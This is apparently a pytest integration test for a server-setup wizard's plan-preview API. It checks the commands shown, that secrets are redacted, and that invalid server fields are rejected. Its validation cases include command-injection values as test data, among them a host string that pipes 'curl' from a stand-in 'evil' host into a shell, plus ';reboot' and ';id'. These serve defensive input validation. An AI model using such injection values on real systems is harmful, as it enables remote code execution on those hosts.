"""``POST /api/setup/plan`` on a live server: it takes auto-setup's whole body, answers the exact commands
with the chosen values (host, user, ports, packages, names, the script as uploaded) and their notes, never
echoes a secret, and names a bad server field as auto-setup would. Nothing connects anywhere."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from setupwizard.provisioning.messages import render
from setupwizard.provisioning.steps.apt import install_command
from setupwizard.provisioning.steps.firewall import apply_script, wanted_rules
from tests.integration.web.live import LiveServer

CANARIES = {
    "password": "canary-login-pw-3f9a1c",
    "sudo_password": "canary-sudo-pw-77d2e0",
    "passphrase": "canary-passphrase-a0b1c2",
    "admin": "canary-admin-pw-e4d5f6",
}
KEY_DATA = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
BODY: dict[str, Any] = {
    "host": "198.18.0.77",
    "port": 2200,
    "username": "alice",
    "password": CANARIES["password"],
    "sudo_password": CANARIES["sudo_password"],
    "passphrase": CANARIES["passphrase"],
    "session_id": "0b6f3f4e-6a53-4c4c-9a4e-8c1d2f0a9e11",
    "wait": False,
    "use_saved_sudo_password": False,
    "packages": ["nginx", "jq"],
    "firewall_ports": ["8443/tcp"],
    "hostname": "web-7",
    "timezone": "Europe/Berlin",
    "admin": {
        "username": "deploy",
        "public_key": f"ssh-ed25519 {KEY_DATA} deploy@laptop",
        "sudo_password": CANARIES["admin"],
    },
    "ssh_hardening": {"port": 2222},
    "script": "#!/bin/bash\necho previewed-script\n",
}


def _plan(client: httpx.Client, body: dict[str, Any]) -> httpx.Response:
    return client.post("/api/setup/plan", json=body)


def _runs(answer: dict[str, Any], step_id: str) -> list[str]:
    return [c["run"] for s in answer["steps"] if s["id"] == step_id for c in s["commands"]]


def test_the_preview_of_an_auto_setup_body_shows_the_chosen_values_and_no_secret(
    live_server: LiveServer,
) -> None:
    with live_server.client(live_server.admin_login()) as client:
        response = _plan(client, BODY)
        sessions = client.get("/api/setup/sessions").json()
    assert response.status_code == 200, response.text
    answer = response.json()
    assert sessions == []  # a preview starts nothing
    assert _runs(answer, "connect")[0] == "ssh alice@198.18.0.77 -p 2200"
    assert _runs(answer, "packages") == [install_command(["nginx", "jq"])]
    firewall = apply_script(wanted_rules(2200, ["8443/tcp"], lockout_drill=False))
    assert firewall in _runs(answer, "firewall")
    assert "ufw allow 2200/tcp && ufw allow 8443/tcp" in firewall
    assert any("hostnamectl set-hostname web-7" in run for run in _runs(answer, "hostname"))
    assert any("timedatectl set-timezone Europe/Berlin" in run for run in _runs(answer, "timezone"))
    assert _runs(answer, "ssh_hardening")[0] == "ufw allow 2222/tcp"
    assert _runs(answer, "ssh_hardening")[-1] == "ssh alice@198.18.0.77 -p 2222 true"
    [upload] = [c for s in answer["steps"] if s["id"] == "script" for c in s["commands"] if c["text"]]
    assert upload["text"] == BODY["script"]
    text = "\n".join(answer["lines"])
    assert "| echo previewed-script" in text and "--- begin uploaded text ---" in text
    [update] = [c for s in answer["steps"] if s["id"] == "apt_update" for c in s["commands"]][1:2]
    assert update["note"].startswith("skipped when")
    assert update["note_code"] == "plan.note.apt_update_fresh"  # the same note in any language
    assert render(update["note_code"], update["note_params"], "en") == update["note"]
    assert render(update["note_code"], update["note_params"], "zh").endswith("时再运行一次")
    for canary in CANARIES.values():
        assert canary not in response.text
    assert "deploy:<sudo password, sent over stdin>" in response.text
    assert KEY_DATA not in response.text  # the pasted key is shortened


def test_without_a_server_the_preview_says_host_and_user(live_server: LiveServer) -> None:
    with live_server.client(live_server.admin_login()) as client:
        answer = _plan(client, {"firewall_ports": ["80/tcp"]}).json()
    assert _runs(answer, "connect")[0] == "ssh USER@HOST -p 22"
    assert any(run.startswith("ufw allow 22/tcp && ufw allow 80/tcp") for run in _runs(answer, "firewall"))


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"host": "bad host;reboot"}, "host"),
        ({"host": "2001:db8::1%$(curl${IFS}evil|sh)"}, "host"),
        ({"host": "0xc6.0x12.0.0xa"}, "host"),
        ({"port": 0}, "port"),
        ({"username": "Alice;id"}, "username"),
        ({"port": "22"}, "port"),
        ({"shell": "/bin/sh"}, "shell"),
    ],
)
def test_a_bad_server_field_is_a_422_naming_it(
    live_server: LiveServer, change: dict[str, Any], field: str
) -> None:
    with live_server.client(live_server.admin_login()) as client:
        response = _plan(client, {**BODY, **change})
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field
    for canary in CANARIES.values():
        assert canary not in response.text
